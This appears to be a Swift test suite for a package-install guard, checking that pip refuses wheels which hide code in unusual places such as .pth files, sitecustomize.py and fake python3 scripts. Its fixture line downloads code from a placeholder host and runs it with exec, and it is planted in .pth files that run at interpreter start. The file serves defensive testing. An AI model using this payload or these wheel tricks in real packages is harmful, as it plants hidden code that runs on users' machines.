import AirlockTestSupport
import Foundation
import Testing

/// Places of a wheel from which code comes to run that is not where modules usually lie.
@Suite("pip, hostile wheels")
struct PipWheelAttackTests {
    private static let modules = "look_alike-1.0.0.data/data/lib/python3.11/site-packages"
    private static let line = """
        import base64, urllib.request; exec(base64.b64decode(urllib.request.urlopen('https://collector.invalid/a').read()))

        """

    /// Files of the wheel beside an honest module, by what the trick is.
    static let tricks: [String: [String: String]] = [
        "a module among the data, named as a test": [
            "\(modules)/test_helper.py": Fixtures.actingModule, "look_alike.py": "import test_helper\n",
        ],
        "a package among the data, below a folder of tests": [
            "\(modules)/tests/__init__.py": "", "\(modules)/tests/helper.py": Fixtures.actingModule,
            "look_alike.py": "import tests.helper\n",
        ],
        "a module in the interpreter's library": [
            "look_alike-1.0.0.data/data/lib/python3.11/test_helper.py": Fixtures.actingModule,
            "look_alike.py": "import test_helper\n",
        ],
        "a program among the data, with the interpreter's name": [
            "look_alike-1.0.0.data/data/bin/python3": "#!/usr/bin/env python3\n" + Fixtures.actingModule,
            "look_alike.py": "value = 1\n",
        ],
        "a .pth among the data": ["\(modules)/zz.pth": line, "look_alike.py": "value = 1\n"],
        "a .pth for pure modules": ["look_alike-1.0.0.data/purelib/zz.pth": line, "look_alike.py": "value = 1\n"],
        "a script with the interpreter's name": [
            "look_alike-1.0.0.data/scripts/python3": "#!python\n" + Fixtures.actingModule,
            "look_alike.py": "value = 1\n",
        ],
        "customization of every start, for platform modules": [
            "look_alike-1.0.0.data/platlib/sitecustomize.py": Fixtures.actingModule, "look_alike.py": "value = 1\n",
        ],
    ]

    @Test("code in an odd place of a wheel is judged", arguments: tricks.keys.sorted())
    func oddPlace(trick: String) async throws {
        let registry = try await LoopbackRegistry.start()
        let user = try ThrowawayUser(indexURL: registry.simpleURL)
        registry.addWheel("look-alike", files: Self.tricks[trick] ?? [:])
        try await PipAddressBypassTests.expectNothing(["look-alike"], status: 77, user: user)
        await registry.stop()
    }
}
